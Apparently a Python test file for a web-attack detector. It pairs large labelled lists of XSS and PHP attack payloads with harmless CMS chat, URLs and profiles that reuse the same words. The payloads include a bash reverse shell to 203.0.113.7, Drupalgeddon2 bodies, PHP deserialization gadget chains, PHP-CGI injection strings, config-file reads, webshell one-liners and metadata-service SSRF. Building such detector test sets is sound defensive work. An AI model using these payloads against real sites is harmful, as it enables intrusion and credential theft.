    "echo `cat /etc/passwd`;",
    "system(base64_decode('Y2F0IC9ldGMvcGFzc3dk'));",
    "shell_exec(\"bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'\");",
    # MediaWiki installer / WordPress setup-config.php: a value written into a PHP config file
    "wordpress');system($_GET[0]);//",
    "My Wiki\";system('id');//",
]

# php-variable-functions: callbacks and strings called as functions (Drupal render-array callbacks, WordPress hooks)
PHP_VARIABLE_FUNCTIONS: list[Entry] = [
    # Drupalgeddon2 (CVE-2018-7600): #post_render / #lazy_builder callbacks in the form API, whole form body
    ("form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id",
     *RAWF),
    ("form_id=user_register_form&_drupal_ajax=1&timezone[a][#lazy_builder][]=passthru&"
     "timezone[a][#lazy_builder][][]=uname -a", *RAWF),
    ("name[#post_render][]=passthru&name[#type]=markup&name[#markup]=id&form_id=user_pass&"
     "_triggering_element_name=name", *RAWF),
    # WordPress backdoors in functions.php / mu-plugins
    "add_filter('the_content','system');",
    "add_action('init',function(){@eval($_POST['wpx']);});",
    # string-built function names
    "$x=str_rot13('flfgrz');$x('id');",
    "$f=strrev('metsys');$f('uname -a');",
    "$c=base64_decode('c3lzdGVt');$c('whoami');",
    "('sys'.'tem')('id');",
    "['system'][0]('id');",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
    "\"\\x73\\x79\\x73\\x74\\x65\\x6d\"('id');",
    "$f=\"s\\x79stem\";$f(\"id\");",
    # callbacks
    "call_user_func('system','id');",
    "call_user_func_array('passthru',array('cat /etc/passwd'));",
    "array_map('assert',array($_POST['p']));",
    "array_filter(array('id'),'system');",
    "register_shutdown_function('system','id');",
    "forward_static_call('passthru','id');",
    "(new ReflectionFunction('system'))->invoke('id');",
    "ob_start('passthru');echo 'id';ob_end_flush();",
    "preg_replace_callback('/.+/',create_function('$m','return system($m[0]);'),'id');",
    "$e=create_function('$a','return system($a);');$e('id');",
    # variable variables and complex (curly) syntax inside double-quoted strings
    "${'_GET'}['x'](${'_GET'}['y']);",
    "${system('id')}",
    "{${system('id')}}",
    "${@eval($_POST[1])}",
]

# php-wrappers: stream wrappers in the file/template/page parameters of CMS plugins and extensions
PHP_WRAPPERS: list[Entry] = [
    # read the platform's configuration file base64-encoded through an LFI parameter
    "php://filter/convert.base64-encode/resource=wp-config.php",
    "php://filter/read=convert.base64-encode/resource=../../../wp-config.php",
    "php://filter/read=string.rot13/resource=configuration.php",
    "php://filter/convert.base64-encode/resource=sites/default/settings.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=LocalSettings.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=typo3conf/LocalConfiguration.php",
    "php://filter/resource=config.php",
    "php://filter/string.toupper|string.rot13/resource=index.php",
    # write through a filter (file_put_contents sinks in import tools)
    "php://filter/write=convert.base64-decode/resource=wp-content/uploads/s.php",
    # filter chain that builds PHP code out of php://temp
    "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|"
    "convert.iconv.UTF8.UTF16|convert.base64-decode/resource=php://temp",
    # request body as the included file
    "pHp://InPuT",
    # data: wrapper
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain,<?php system('id');?>",
    # phar deserialization of an uploaded image (WordPress media, Joomla images/stories, phpBB attachments)
    "phar://wp-content/uploads/2024/06/avatar.jpg/test.txt",
    "phar://./wp-content/uploads/2019/01/exploit.gif",
    "phar:///var/www/html/images/stories/x.jpg/x",
    "phar://../files/plupload/evil.jpg",
    # expect://
    "expect://id",
    "expect://cat /etc/passwd",
    # zip:// archives uploaded as theme or plugin packages
    "zip://wp-content/uploads/2024/06/theme.zip%23shell.php",
    "zip:///var/www/html/sites/default/files/backup.zip#cmd.php",
    # glob:// to list a hosting account's other sites
    "glob:///home/*/public_html/wp-config.php",
    "glob://wp-content/plugins/*",
    # compression wrappers around the same targets
    "compress.zlib://../../../wp-config.php",
    "compress.bzip2://phar://uploads/x.jpg",
    "file:///var/www/html/wp-config.php",
]

# php-object-injection: serialized objects for unserialize() in cookies, sessions, options, REST fields
PHP_OBJECT_INJECTION: list[Entry] = [
    # Joomla 1.5-3.4 session storage (CVE-2015-8562): User-Agent stored in the session, JDatabaseDriverMysqli gadget
    ('}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";'
     'a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";'
     's:37:"phpinfo();JFactory::getConfig();exit;";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;'
     's:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}'
     "\U0001d306", *UA_H),
    # WordPress 6.4 POP chain: WP_HTML_Token::__destruct calls on_destroy(bookmark_name)
    'O:13:"WP_HTML_Token":2:{s:13:"bookmark_name";s:2:"id";s:10:"on_destroy";s:6:"system";}',
    # the same with an inflated property count (skips __wakeup on PHP < 7.0.10)
    'O:13:"WP_HTML_Token":3:{s:13:"bookmark_name";s:6:"whoami";s:10:"on_destroy";s:8:"passthru";}',
    # WordPress < 5.5.2: Requests_Utility_FilteredIterator calls its callback on each element
    'C:33:"Requests_Utility_FilteredIterator":66:{x:i:0;a:1:{i:0;s:2:"id";};m:a:1:{s:11:"\0*\0callback";'
    's:6:"system";}}',
    # Drupal 8 REST (CVE-2019-6340): Guzzle FnStream gadget in a link field, whole JSON body
    ('{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000GuzzleHttp'
     '\\\\Psr7\\\\FnStream\\u0000methods\\";a:1:{s:5:\\"close\\";a:2:{i:0;O:23:\\"GuzzleHttp\\\\HandlerStack\\":3:'
     '{s:32:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000handler\\";s:2:\\"id\\";s:30:\\"\\u0000GuzzleHttp\\\\'
     'HandlerStack\\u0000stack\\";a:1:{i:0;a:1:{i:0;s:6:\\"system\\";}}s:31:\\"\\u0000GuzzleHttp\\\\HandlerStack'
     '\\u0000cached\\";b:0;}i:1;s:7:\\"resolve\\";}}s:9:\\"_fn_close\\";a:1:{i:0;r:4;}}"}],"_links":{"type":'
     '{"href":"http://localhost/rest/type/shortcut/default"}}}', *JB),
    # the same gadget alone, for a field that is unserialized directly
    'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\0GuzzleHttp\\Psr7\\FnStream\0methods";a:1:{s:5:"close";a:2:{i:0;'
    'O:23:"GuzzleHttp\\HandlerStack":3:{s:32:"\0GuzzleHttp\\HandlerStack\0handler";s:2:"id";s:30:"\0GuzzleHttp'
    '\\HandlerStack\0stack";a:1:{i:0;a:1:{i:0;s:6:"system";}}s:31:"\0GuzzleHttp\\HandlerStack\0cached";b:0;}i:1;'
    's:7:"resolve";}}s:9:"_fn_close";a:1:{i:0;r:4;}}',
    # Guzzle FileCookieJar file write (Drupal 8, plugins bundling Guzzle): drop a shell on __destruct
    'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:41:"\0GuzzleHttp\\Cookie\\FileCookieJar\0filename";'
    's:23:"/var/www/html/shell.php";s:52:"\0GuzzleHttp\\Cookie\\FileCookieJar\0storeSessionCookies";b:1;'
    's:36:"\0GuzzleHttp\\Cookie\\CookieJar\0cookies";a:1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{'
    's:33:"\0GuzzleHttp\\Cookie\\SetCookie\0data";a:3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";'
    "s:28:\"<?php system($_GET['c']); ?>\";}}}s:39:\"\0GuzzleHttp\\Cookie\\CookieJar\0strictMode\";N;}",
    # vBulletin 5 decodeArguments (CVE-2015-7808), whole query string
    ('routestring=ajax/api/hook/decodeArguments&arguments=O:12:"vB_dB_Result":2:{s:5:"\0*\0db";'
     'O:17:"vB_Database_MySQL":1:{s:9:"functions";a:1:{s:11:"free_result";s:6:"assert";}}'
     's:12:"\0*\0recordset";s:18:"system(\'id\');exit;";}', *RAWQ),
    # Laravel-based CMSs (October CMS, Statamic): PendingBroadcast + Faker\Generator
    'O:40:"Illuminate\\Broadcasting\\PendingBroadcast":2:{s:9:"\0*\0events";O:15:"Faker\\Generator":1:{'
    's:13:"\0*\0formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"\0*\0event";s:2:"id";}',
    # Monolog BufferHandler + SyslogUdpHandler (Laravel CMSs, Drupal contrib logging)
    'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\0*\0socket";O:29:"Monolog\\Handler\\BufferHandler":7:{'
    's:10:"\0*\0handler";r:2;s:13:"\0*\0bufferSize";i:-1;s:9:"\0*\0buffer";a:1:{i:0;a:2:{i:0;s:2:"id";'
    's:5:"level";N;}}s:8:"\0*\0level";N;s:14:"\0*\0initialized";b:1;s:14:"\0*\0bufferLimit";i:-1;'
    's:13:"\0*\0processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
    # Craft CMS (Yii2, CVE-2020-15148 chain): BatchQueryResult -> Faker\Generator -> IndexAction
    'O:23:"yii\\db\\BatchQueryResult":1:{s:36:"\0yii\\db\\BatchQueryResult\0_dataReader";O:15:"Faker\\Generator":1:'
    '{s:13:"\0*\0formatters";a:1:{s:5:"close";a:2:{i:0;O:20:"yii\\rest\\IndexAction":2:{s:11:"checkAccess";'
    's:6:"system";s:2:"id";s:2:"id";}i:1;s:3:"run";}}}}',
    # SoapClient SSRF to the cloud metadata service on __call (any CMS on PHP with ext-soap)
    'O:10:"SoapClient":3:{s:3:"uri";s:1:"x";s:8:"location";s:39:"http://169.254.169.254/latest/meta-data";'
    's:11:"_user_agent";s:31:"x\r\nX-Forwarded-For: 127.0.0.1\r\n";}',
    # type juggling through an unserialized "remember me" cookie (old CMS login)
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    'O:8:"stdClass":1:{s:5:"admin";b:1;}',
    # the plus-sign count that slips past a /O:\d+:/ check in a WordPress plugin
    'O:+13:"WP_HTML_Token":2:{s:13:"bookmark_name";s:3:"pwd";s:10:"on_destroy";s:6:"system";}',
    # ArrayObject wrapper (C:) carrying the gadget
    'C:11:"ArrayObject":111:{x:i:0;a:1:{i:0;O:13:"WP_HTML_Token":2:{s:13:"bookmark_name";s:2:"id";s:10:"on_destroy";'
    's:6:"system";}};m:a:0:{}}',
    # gadget inside an array, as WooCommerce session and plugin option values are stored
    'a:1:{s:4:"cart";O:13:"WP_HTML_Token":2:{s:13:"bookmark_name";s:5:"uname";s:10:"on_destroy";s:8:"passthru";}}',
    # double-serialized user meta (WordPress CVE-2013-4338 style): a string that unserializes once more
    's:86:"O:13:"WP_HTML_Token":2:{s:13:"bookmark_name";s:2:"id";s:10:"on_destroy";s:6:"system";}";',
    # TYPO3 / Swift Mailer file write: Swift_ByteStream_TemporaryFileByteStream removes or writes a path
    'O:40:"Swift_ByteStream_TemporaryFileByteStream":1:{s:38:"\0Swift_ByteStream_FileByteStream\0_path";'
    's:32:"typo3conf/LocalConfiguration.php";}',
    # Drupal 7 SchemaCache / DrupalCacheArray destructor writes a cache entry
    'O:11:"SchemaCache":4:{s:6:"\0*\0cid";s:14:"form_DrupalRCE";s:6:"\0*\0bin";s:10:"cache_form";'
    's:16:"\0*\0keysToPersist";'
    'a:3:{s:8:"#form_id";b:1;s:8:"#process";b:1;s:9:"#attached";b:1;}s:10:"\0*\0storage";a:3:{s:8:"#form_id";'
    's:9:"DrupalRCE";s:8:"#process";a:1:{i:0;s:23:"drupal_process_attached";}s:9:"#attached";a:1:{s:6:"system";'
    'a:1:{i:0;a:1:{i:0;s:2:"id";}}}}}',
]

# php-config-directives: PHP settings set from a request (PHP-CGI argument injection, .htaccess and .user.ini from
# file managers, PHP_VALUE through FastCGI, ini_set in snippets) and WordPress config constants
PHP_CONFIG: list[Entry] = [
    # PHP-CGI argument injection on shared hosts (CVE-2012-1823), whole query string
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", *RAWQ),
    ("-s", *RAWQ),
    ("-d+safe_mode%3d0+-d+disable_functions%3d%22%22+-d+auto_prepend_file%3dphp://input", *RAWQ),
    # the same through the Windows soft hyphen (CVE-2024-4577, XAMPP-hosted WordPress/Joomla)
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", *RAWQ),
    ("%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env%3d0+%ADd+auto_prepend_file%3dphp://input", *RAWQ),
    # .htaccess written by a WordPress file-manager plugin into wp-content/uploads
    "php_value auto_prepend_file /var/www/html/wp-content/uploads/2024/06/logo.jpg",
    "AddType application/x-httpd-php .jpg",
    "php_flag engine on",
    '<FilesMatch "\\.jpg$">SetHandler application/x-httpd-php</FilesMatch>',
    "AddHandler application/x-httpd-php .gif",
    # .user.ini on PHP-FPM hosts
    "auto_prepend_file=wp-content/uploads/avatar.gif",
    "auto_append_file=/tmp/sess_5ae0cd7b1",
    "auto_prepend_file=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
    "allow_url_include = On",
    "disable_functions =",
    "open_basedir = /",
    # FastCGI parameters smuggled to PHP-FPM (CVE-2019-11043 class, SSRF to port 9000)
    "PHP_VALUE=auto_prepend_file=php://input",
    "PHP_ADMIN_VALUE=allow_url_include = On",
    # ini_set from a code-snippet plugin
    "ini_set('allow_url_include','1');include('https://xss.example/s.txt');",
    "mkdir('x');chdir('x');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');"
    "ini_set('open_basedir','/');echo file_get_contents('/etc/passwd');",
    "ini_set('error_log','wp-content/uploads/e.php');error_log('<?php system($_GET[c]);?>');",
    "ini_set('disable_functions','');ini_restore('open_basedir');",
    # WordPress wp-config.php constants injected through setup-config.php or a config-editor plugin
    "define('ALLOW_UNFILTERED_UPLOADS', true);",
    "define('DISALLOW_FILE_EDIT', false); define('DISALLOW_FILE_MODS', false);",
    # session.upload_progress: a progress entry in the session file, then included
    "PHP_SESSION_UPLOAD_PROGRESS=<?php system('id'); ?>",
    "session.upload_progress.cleanup=0",
    "phar.readonly=0",
]

# superglobals: injected code reading the request (WordPress mu-plugin and Joomla template backdoors)
SUPERGLOBALS: list[Entry] = [
    "eval($_REQUEST['a']);",
    "system($_COOKIE['wp_sess']);",
    "$_GET['f']($_GET['a']);",
    "@$_POST['x']($_POST['y']);",
    "passthru($_SERVER['HTTP_X_CMD']);",
    "eval(base64_decode($_SERVER['HTTP_X_WP_CACHE']));",
    "move_uploaded_file($_FILES['f']['tmp_name'],'wp-content/uploads/'.$_FILES['f']['name']);",
    "file_put_contents($_GET['f'],$_POST['d']);",
    "print_r($_ENV);",
    "var_dump($_SESSION);",
    "echo json_encode($_SERVER);",
    "extract($_POST);$func($arg);",
    "parse_str($_SERVER['QUERY_STRING']);",
    "$GLOBALS['wpdb']->query($_POST['q']);",
    "$GLOBALS['_GET']['a']($GLOBALS['_GET']['b']);",
    "${$_GET['v']}=$_GET['x'];",
    "eval(file_get_contents('php://input'));",
    "eval($HTTP_RAW_POST_DATA);",
    "assert(stripslashes($_REQUEST['x']));",
    "include($_SERVER['DOCUMENT_ROOT'].'/'.$_GET['tpl']);",
    "system(getenv('HTTP_ACCEPT_LANGUAGE'));",
    "echo DB_PASSWORD.$_SERVER['SERVER_ADDR'];",
    "array_map($_GET['f'],array($_GET['a']));",
    "unserialize(base64_decode($_COOKIE['joomla_remember']));",
    "foreach($_FILES as $f){copy($f['tmp_name'],$f['name']);}",
    "if(md5($_GET['k'])=='5f4dcc3b5aa765d61d8327deb882cf99'){eval($_POST['c']);}",
    "$_SESSION['user']['role']='administrator';",
]

# php-file-upload: file names sent to media libraries, attachment and import forms
PHP_FILE_UPLOAD: list[Entry] = [
    ("shell.php", *UP),
    ("wp-conf.php", *UP),
    ("cmd.phtml", *UP),
    ("avatar.phar", *UP),
    ("photo.php5", *UP),
    ("banner.php7", *UP),
    ("thumb.pht", *UP),
    ("image.php3", *UP),
    ("logo.php4", *UP),
    ("x.pHp", *UP),
    ("x.PhTmL", *UP),
    ("hero.jpg.php", *UP),
    ("hero.php.jpg", *UP),
    ("avatar.gif.phtml", *UP),
    ("shell.php%00.jpg", *UP),
    ("shell.php\x00.jpg", *UP),
    ("shell.php.", *UP),
    ("shell.php ", *UP),
    ("shell.php::$DATA", *UP),
    ("shell.php;.jpg", *UP),
    (".htaccess", *UP),
    (".user.ini", *UP),
    ("../../wp-content/plugins/hello.php", *UP),
    ("..%2f..%2fwp-content%2fthemes%2ftwentytwentyfour%2f404.php", *UP),
    ("filename*=UTF-8''cmd.php", *UP),
    ("filename*=UTF-8''avatar%2Ephtml", *UP),
    ("sourcerer-backup.phtm", *UP),
]

# php-high-risk-function-names: functions that read secrets, reach the network or write files
PHP_HIGH_RISK: list[Entry] = [
    "phpinfo();",
    "highlight_file('wp-config.php');",
    "show_source('configuration.php');",
    "readfile('sites/default/settings.php');",
    "file('LocalSettings.php');",
    "file_get_contents('../typo3conf/LocalConfiguration.php');",
    "fopen('/etc/passwd','r');",
    "fsockopen('203.0.113.7',4444);",
    "stream_socket_client('tcp://203.0.113.7:4444');",
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/iam/security-credentials/'));",
    "posix_getpwuid(posix_geteuid());",
    "get_current_user();",
    "getenv('DB_PASSWORD');",
    "ini_get_all();",
    "symlink('/','wp-content/uploads/root');",
    "chmod('wp-config.php',0777);",
    "file_put_contents('wp-content/uploads/x.php','<?php eval($_POST[1]);');",
    "scandir('/var/www');",
    "glob('/home/*/public_html/wp-config.php');",
    "dl('evil.so');",
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a','b','c');",
    "var_dump(get_defined_vars());",
    "print_r(get_defined_functions());",
    "php_uname();",
    "parse_ini_file('../config.ini');",
    "posix_kill(getmypid(),9);",
    "imap_open('{x -oProxyCommand=echo\\tZWNobyAnaWQnCg==|base64\\t-d|sh}','','');",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", XSS_LIBINJECTION),
    ("xss", "script-tag", XSS_SCRIPT),
    ("xss", "event-handler", XSS_EVENT),
    ("xss", "attribute-vector", XSS_ATTR),
    ("xss", "javascript-uri", XSS_JSURI),
    ("xss", "html-injection", XSS_HTML),
    ("xss", "svg-mathml", XSS_SVG),
    ("xss", "css-expression", XSS_CSS),
    ("xss", "template-literal-dom-sink", XSS_DOM),
    ("xss", "ie-filter-style", XSS_IE),
    ("xss", "encoded-entity", XSS_ENCODED),
    ("xss", "angular-vue-template", XSS_CLIENT_TEMPLATE),
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-function-call", PHP_FUNCTION_CALL),
    ("php", "php-variable-functions", PHP_VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", PHP_WRAPPERS),
    ("php", "php-object-injection", PHP_OBJECT_INJECTION),
    ("php", "php-config-directives", PHP_CONFIG),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", PHP_FILE_UPLOAD),
    ("php", "php-high-risk-function-names", PHP_HIGH_RISK),
]
# fixed entries of these sub-families are whole query strings or form bodies, sent unquoted
RAW_SUBS = {"php-function-call", "php-variable-functions", "php-object-injection", "php-config-directives"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_SUBS
    # `%` and `+` stay as written in a raw query: PHP-CGI's argv split on `+` and its `%3d` are the exploit
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"
    raw_places = ("query", "rs-query", "form", "rs-form", "param-name", "rs-param-name")
    upload = "GIF89a"
    unique = True
    fit_fixed = True
    path_forbids = "/?#"
    xml_controls = "\n\t\r"
    names = ["s", "comment", "content", "post_title", "excerpt", "author", "url", "title", "body", "description"]
    php_names = ["page", "file", "template", "snippet", "code", "newcontent", "include", "path", "cmd", "data"]

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.php_names if category == "php" else self.names
        return names[k % len(names)]

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """A fixed entry of a raw sub-family is a whole query string or form body (PHP-CGI's has no `=`)."""
        return fixed and sub in self.raw_subs and not payload.startswith(("{", "["))


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by editors, web producers and site developers (Slack chat and bios,
# directory searches by desk or section, links to CMS admin pages and articles, admin-panel notes, profiles, media
# and export file names, ordinary headers)
CHAT = [
    # editors and web producers
    "the [gallery ids=\"4812,4815,4819\"] shortcode stopped rendering on the sport live blog after the theme update",
    "can someone put the podcast player in the sidebar? the embed code is "
    "<iframe src=\"https://open.spotify.com/embed/episode/7makk4oTQel546B0PZlDM5\" width=\"100%\" height=\"152\" "
    "frameborder=\"0\"></iframe>",
    "caption under the hero image is wrong, it should say Photo: Ana Ribeiro/Reuters",
    "please use [caption] for photo credits, not bold text under the image",
    "the YouTube embed shows a grey box, I think the video is private now",
    "who owns the newsletter signup block? the button says Subscribe twice",
    "redirect /2019/05/old-budget-story/ to /politics/budget-2024/ please, 301 not 302",
    "the Redirection plugin has 3,400 rules now, can we clean up the ones from the 2018 migration?",
    "the liveblog auto-refresh stopped at 14:02, had to reload the editor",
    "the Markdown editor turns my *asterisks* into bold, how do I write a literal asterisk? backslash?",
    "in Ghost use the HTML card if you need a table, the Markdown card doesn't do column widths",
    "the tweet embed died because X changed the oEmbed endpoint, screenshots for now",
    "comments are closed on the election results page, legal asked",
    "someone left a comment with <script> in it, KSES stripped it, nothing to do",
    "the related-articles widget shows the same three stories on every page since Tuesday",
    "please don't paste from Word into the block editor, it brings <span style=\"font-family:Calibri\"> everywhere",
    "the byline shows 'admin' on the weather story, can someone set the author to the weather desk?",
    "image alt text is now required before publishing, the checklist plugin enforces it",
    "scheduled post for 06:00 went out at 07:00, the server timezone is still UTC",
    "the RSS feed for the culture section is empty, the category slug changed from arts to culture",
    "the podcast feed validator complains about <itunes:image> missing, fixed in the feed settings",
    "SEO plugin wants a meta description under 155 characters, mine is 190",
    # site developers
    "WordPress 6.5.3 is out, security release, updating staging first",
    "plugin updates tonight: Yoast, WPForms, Elementor. expect a short cache purge",
    "the child theme overrides single.php, that's why the new template part doesn't show",
    "Elementor editor won't load, console says Uncaught TypeError: Cannot read properties of undefined "
    "(reading 'elements')",
    "admin-ajax.php is getting 900 requests a minute from the heartbeat, I'll slow it to 60s",
    "REST API: GET /wp-json/wp/v2/posts?per_page=100&_embed works, the 100 limit is hard",
    "in Drupal run drush cr after changing the Twig template, or turn off the render cache locally",
    "{% if node.field_hero_image is not empty %} around the hero block fixed the empty div",
    "Liquid: use {{ page.title | escape }} in the head, not the raw title",
    "the Craft template needs {{ entry.heroImage.one().url ?? '' }} or it throws on entries without an image",
    "TYPO3 11 upgrade: the old TypoScript condition syntax [globalVar = ...] is gone, use the symfony expressions",
    "PHP 8.2 upgrade broke the legacy events plugin, it still calls create_function",
    "Fatal error: Uncaught Error: Call to undefined function create_function() in "
    "/wp-content/plugins/old-events/events.php:212",
    "Deprecated: Creation of dynamic property WP_Widget_Calendar::$foo is deprecated - that's from our mu-plugin",
    "php_value upload_max_filesize 64M in .htaccess does nothing on the new host, it's php-fpm, use .user.ini",
    "set memory_limit = 512M in the pool config, the import of 40k posts needs it",
    "the WP All Import job failed at record 18,233, the XML had an unescaped & in a title",
    "WXR export from the old site is 1.2 GB, splitting it by year before import",
    "don't store serialized arrays in post meta by hand, use update_post_meta with an array and let WP serialize",
    "search-replace on the database must handle serialized strings, use wp search-replace, not sed",
    "the Sanity schema has a portable text field with link annotations, href is validated as https only",
    "Contentful rich text: hyperlink nodes come through as data.uri, render them with rel=noopener",
    "Strapi webhook to the Next.js revalidate endpoint times out, bumping it to 10s",
    "Directus file upload rejects SVG by default, we allowlisted it for the logo folder only",
    "Umbraco backoffice is AngularJS, so {{ }} in a property label renders literally in the editor, that's normal",
    "MediaWiki: $wgRawHtml stays false, use the Widgets extension for embeds",
    "Confluence HTML macro is disabled in our space, use the iframe macro instead",
    "phpBB 3.3 extension for the forum login bridge is done, needs review",
    "Discourse onebox for our articles shows the wrong image, the og:image tag points to the logo",
    "xmlrpc.php is blocked at the edge, Jetpack uses the REST API now anyway",
    "the javascript: links in the old menu got stripped on import, those were bookmarklets for the desk",
    "I added onclick tracking to the share buttons via GTM, not in the theme",
    "the CSP report shows inline script from the ad partner, adding a nonce to the wp_head output",
    "the image resizer returns 400 for ?w=2400, max width is 2000",
    "SVG uploads go through Safe SVG which strips script and event attributes",
    "phar and phtml are blocked in uploads, only jpg png gif webp pdf mp3 mp4",
    "composer update pulled guzzlehttp/guzzle 7.8, all green",
    # bios
    "Web producer, Sport desk. WordPress, Gutenberg blocks and far too many shortcodes.",
    "Managing editor, digital. Ask me about the style guide, not about the CMS.",
    "Drupal developer. Views, Twig, render arrays and the occasional drush cr.",
    "Front-end dev on the news site. Next.js, Sanity, and strong opinions about image sizes.",
    "WordPress plugin maintainer (events, newsletters). PHP 8 migrations this quarter.",
    "Audience team. Newsletters, RSS, push alerts and the homepage.",
    "Wiki gardener for the engineering handbook (MediaWiki and Confluence).",
    "Community manager for the reader forum (Discourse, formerly phpBB).",
    "Picture editor. If the caption is wrong it was probably me.",
    "Site reliability for the publishing stack: PHP-FPM, nginx, caches.",
]

SEARCHES = [
    "sport desk", "web producer", "culture", "newsletter", "audience team", "picture desk", "homepage editor",
    "wordpress", "drupal", "php", "ghost", "sanity", "strapi", "umbraco", "typo3", "craft", "wiki", "forum",
    "seo", "podcast", "video desk", "liveblog", "night editor", "subeditor", "script", "alert", "embed",
    "gallery", "iframe", "shortcode", "template", "plugin", "elementor", "gutenberg", "rss", "feed", "import",
    "system", "data", "o'neill",
]

URLS = [
    "https://news.example.com/wp-admin/post.php?post=48213&action=edit",
    "https://news.example.com/wp-admin/edit.php?post_type=page&orderby=date&order=desc",
    "https://news.example.com/wp-admin/upload.php?mode=list",
    "https://news.example.com/wp-json/wp/v2/posts?per_page=20&_embed",
    "https://news.example.com/politics/budget-2024/",
    "https://news.example.com/sport/live/cup-final-live-blog/?utm_source=newsletter&utm_medium=email",
    "https://cms.example.com/node/1882/edit?destination=/admin/content",
    "https://cms.example.com/admin/structure/views/view/frontpage",
    "https://wiki.example.com/index.php?title=Style_guide&action=edit&section=3",
    "https://forum.example.com/t/embedding-our-articles/1204",
    "https://developer.wordpress.org/reference/functions/add_shortcode/",
    "https://developer.wordpress.org/rest-api/reference/posts/",
    "https://www.drupal.org/docs/drupal-apis/render-api/render-arrays",
    "https://docs.ghost.org/themes/helpers/",
    "https://www.sanity.io/docs/portable-text-editor-configuration",
    "https://www.contentful.com/developers/docs/concepts/rich-text/",
    "https://shopify.github.io/liquid/filters/escape/",
    "https://twig.symfony.com/doc/3.x/filters/escape.html",
    "https://www.php.net/manual/en/migration80.incompatible.php",
    "https://make.wordpress.org/core/2024/05/07/wordpress-6-5-3-maintenance-release/",
]

PROSE = [
    "sport desk web producers",
    "culture and arts section editors",
    "people who can publish to the homepage",
    "liveblog editors on the night shift",
    "newsletter team (morning briefing)",
    "picture desk - captions and credits",
    "podcast producers",
    "WordPress administrators",
    "Drupal site builders",
    "editors with the unfiltered HTML role",
    "who maintains the events plugin",
    "contributors to the style guide wiki",
    "forum moderators (Discourse)",
    "SEO and audience team",
    "video desk embeds owner",
    "page builder templates owners",
    "subeditors - politics",
    "O'Neill, Ciara (Business desk)",
    "D'Arcy, Liam",
    "script writers for the video team",
    "alert desk (breaking news push)",
    "system administrators for the publishing stack",
    "data journalism team",
    "template owners for the election pages",
    "gallery and photo essay editors",
    "RSS and syndication partners contact",
    "import and export of the archive",
    "embed approvals for third-party iframes",
    "shortcode documentation owners",
    "feed editors (Google News, Apple News)",
    "comment moderation rota",
    "accessibility reviewers (alt text)",
    "product owner for the CMS",
    "headless front-end team",
    "translation desk (Portuguese, Spanish)",
    "staging site testers",
    "the php 8 upgrade squad",
    "media library cleanup volunteers",
    "redirects and broken links triage",
    "markdown style guide reviewers",
]

PROFILES = [
    ("Ana Ribeiro", "Rua do Século 51, Lisbon"),
    ("Ciara O'Neill", "Baggot St 14, Dublin"),
    ("Liam D'Arcy", "Patrick St 9, Cork"),
    ("Shortcode Studio", "Kungsgatan 12, Stockholm"),
    ("The Gallery Press", "High St 88, Edinburgh"),
    ("Embed Media Ltd", "Shoreditch High St 101, London"),
    ("Script & Ink Editorial", "Rue Oberkampf 40, Paris"),
    ("Template House", "Friedrichstraße 60, Berlin"),
    ("Plugin Partners", "Herengracht 200, Amsterdam"),
    ("Alert News Agency", "Via Torino 5, Milan"),
    ("Feed & Syndicate", "Carrer de Mallorca 30, Barcelona"),
    ("Gutenberg Druckerei", "Mainzer Str 3, Mainz"),
    ("Drupal Camp Lisbon", "Avenida da Liberdade 100, Lisbon"),
    ("Ghost Writers Collective", "King St W 400, Toronto"),
    ("Craft & Co", "Ponsonby Rd 12, Auckland"),
    ("Sanity Design Studio", "Mission St 500, San Francisco"),
    ("Strapi Digital", "Rue de Rivoli 10, Paris"),
    ("Umbraco Consulting", "Vesterbrogade 8, Copenhagen"),
    ("Wiki Works", "Kärntner Str 2, Vienna"),
    ("Forum Events", "Piazza Navona 1, Rome"),
]

